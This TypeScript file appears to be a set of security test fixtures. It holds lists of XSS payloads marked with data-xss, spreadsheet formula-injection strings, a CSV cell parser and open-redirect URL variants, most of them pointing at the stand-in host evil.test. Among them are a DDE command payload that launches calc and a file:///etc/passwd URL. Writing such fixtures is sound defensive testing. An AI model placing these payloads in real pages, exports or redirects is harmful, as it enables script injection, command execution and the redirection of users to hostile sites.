/**
 * Markup, attributes, URLs and templates that run a script where a text is put into a page unescaped. Elements and
 * attributes of theirs carry `data-xss`, so that one that became real is found even where a policy stops its script.
 */
export const SCRIPT_PAYLOADS: readonly string[] = [
  "<script data-xss>alert(1)</script>",
  "<img data-xss src=x onerror=alert(1)>",
  '"><svg data-xss onload=alert(1)>',
  "'><b data-xss onclick=alert(1)>x",
  "</title><script data-xss>alert(1)</script>",
  "</textarea><img data-xss src=x onerror=alert(1)>",
  "</script><script data-xss>alert(1)</script>",
  "<!--<script data-xss>alert(1)//-->",
  "javascript:alert(1)//data-xss",
  "<a data-xss href=javascript:alert(1)>x</a>",
  '<iframe data-xss srcdoc="<script>alert(1)</script>">',
  "{{constructor.constructor('alert(1)')()}}",
  "$" + "{alert(1)}#{alert(1)}<%= alert(1) %>",
  "<svg data-xss><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<details data-xss open ontoggle=alert(1)>",
  '" autofocus onfocus=alert(1) data-xss="',
  "' onmouseover=alert(1) data-xss='",
  "\\u003cscript data-xss\\u003ealert(1)\\u003c/script\\u003e",
  "&lt;img data-xss src=x onerror=alert(1)&gt;",
  "%3Cscript data-xss%3Ealert(1)%3C/script%3E",
  "<scr<script>ipt data-xss>alert(1)</scr</script>ipt>",
  '\u2028";alert(1)//data-xss',
  "<style data-xss>@import'//evil.test'</style>",
  "<base data-xss href=//evil.test>",
  "<form data-xss action=//evil.test><input name=csrf>",
  "<meta data-xss http-equiv=refresh content=0;url=//evil.test>",
];

/** What a spreadsheet would run at the start of a cell. */
export const FORMULA_PAYLOADS: readonly string[] = [
  '=HYPERLINK("http://evil.test","x")',
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1;1)",
  "=cmd|' /C calc'!A0",
  "\t=1+1",
  " =1+1",
  "\r=1+1",
  "\n=1+1",
  '"=1+1"',
  ";=1+1,=2+2",
  "x;=1+1",
  "x; =1+1",
  "x;'=1+1",
  'x;"=1+1"',
  "x\n=1+1",
  "x\r\n+1+1",
  "x\t@SUM(1;1)",
  "x|-1+1",
  "＝1+1",
  "x;＋1＋1",
];

/**
 * The cells that a spreadsheet makes of a file, with its own separator: a quote counts where a cell begins, and
 * nowhere else.
 */
export function cellsOf(text: string, separator: "," | ";" | "\t"): string[] {
  const cells: string[] = [];
  let cell = "";
  let quoted = false;
  for (let at = 0; at < text.length; at++) {
    const one = text[at] ?? "";
    if (quoted && one === '"' && text[at + 1] === '"') cell += text[++at];
    else if (quoted && one === '"') quoted = false;
    else if (!quoted && one === '"' && cell === "") quoted = true;
    else if (!quoted && (one === separator || one === "\r" || one === "\n")) {
      cells.push(cell);
      cell = "";
    } else cell += one;
  }
  return [...cells, cell];
}

/** Return addresses that leave the site in some browser or router. */
export const FOREIGN_ADDRESSES: readonly string[] = [
  "https://evil.test",
  "http://evil.test/",
  "HTTPS://EVIL.TEST",
  "https:evil.test",
  "https:/evil.test",
  "https:///evil.test",
  "https:\\\\evil.test",
  "//evil.test",
  "//evil.test/%2f..",
  "///evil.test",
  "////evil.test",
  "/\\evil.test",
  "\\/evil.test",
  "\\\\evil.test",
  "/\\/evil.test",
  "/\\\\evil.test",
  "/\t/evil.test",
  "/\n/evil.test",
  "/\r/evil.test",
  "\t//evil.test",
  " //evil.test",
  "\u0000//evil.test",
  "/\u0000/evil.test",
  "/ /evil.test",
  "/%09/evil.test",
  "/%2f/evil.test",
  "/%5cevil.test",
  "/%5c%5cevil.test",
  "/.//evil.test",
  "/..//evil.test",
  "/./\\evil.test",
  "/x/..//evil.test",
  "/x/../\\evil.test",
  "/%2e%2e//evil.test",
  "/\u2028/evil.test",
  "/\u3002evil.test//",
  "//evil\u3002test",
  "//evil.test:80",
  "//user@evil.test",
  "//127.0.0.1@evil.test",
  "https://127.0.0.1@evil.test",
  "https://evil.test#127.0.0.1",
  "https://evil.test?127.0.0.1",
  "https://127.0.0.1.evil.test",
  "//[::1]",
  "//0x7f000001",
  "//%65vil.test",
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "\u0001javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
  "blob:https://evil.test/x",
  "ftp://evil.test",
  "mailto:x@evil.test",
  "evil.test",
  "@evil.test",
  ".evil.test",
  "?//evil.test",
  "#//evil.test",
  "",
];
